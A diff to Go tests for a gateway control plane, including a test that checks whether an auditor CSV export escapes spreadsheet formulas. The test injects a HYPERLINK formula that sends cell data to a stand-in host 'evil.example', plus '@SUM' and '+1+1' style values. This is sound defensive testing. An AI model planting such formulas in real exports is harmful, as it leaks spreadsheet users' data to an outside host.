@@ -155,7 +155,7 @@ func TestControlPlaneLoopback(t *testing.T) {
 	const perPhase = 300
 	emit := func(phase string) {
 		for i := range perPhase {
-			err := cl.Emit(controlplane.Event{Kind: "decision", Subject: "ada@example.com", Resource: "wiki", Effect: "allow", Device: en.Device.ID, ID: fmt.Sprintf("%s-%d", phase, i)})
+			err := cl.Emit(controlplane.Event{Kind: "decision", Subject: u.ID, Resource: "wiki", Effect: "allow", Device: en.Device.ID, ID: fmt.Sprintf("%s-%d", phase, i)})
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -272,9 +272,9 @@ func TestEnrolmentFromGatewayStatus(t *testing.T) {
 }
 
 // TestGatewayCannotPlantCSVFormulas: a registered gateway sends an event
-// whose every gateway-controlled field is a spreadsheet formula; the
-// auditor's CSV export must not hand a spreadsheet any cell it would
-// evaluate. The effect and event id cells were written unescaped.
+// whose every free-text field is a spreadsheet formula (its kind, effect,
+// subject and device must be ones the console knows); the auditor's CSV
+// export must not hand a spreadsheet any cell it would evaluate.
 func TestGatewayCannotPlantCSVFormulas(t *testing.T) {
 	e := newEnv(t, nil)
 	ln, _ := net.Listen("tcp", "127.0.0.1:0")
@@ -294,8 +294,10 @@ func TestGatewayCannotPlantCSVFormulas(t *testing.T) {
 	if _, err := cl.Register(ctx, created.Token, "edge-1"); err != nil {
 		t.Fatal(err)
 	}
+	var u store.User
+	e.mustCall(store.RoleAdmin, "POST", "/api/v1/users", userRequest{Email: "ada@example.com", Role: store.RoleViewer, Password: "correct horse battery"}, 201, &u)
 	formula := `=HYPERLINK("http://evil.example/?"&A1)`
-	if err := cl.Emit(controlplane.Event{Kind: "decision", Subject: "+1+1", Resource: "-2+3", Effect: formula, Device: "@SUM(1)", ID: formula}); err != nil {
+	if err := cl.Emit(controlplane.Event{Kind: "decision", Subject: u.ID, Resource: "-2+3", Effect: "deny", Rule: formula, Message: "@SUM(1)", Source: "+1+1", ID: formula}); err != nil {
 		t.Fatal(err)
 	}
 	waitPending(t, cl, 0)
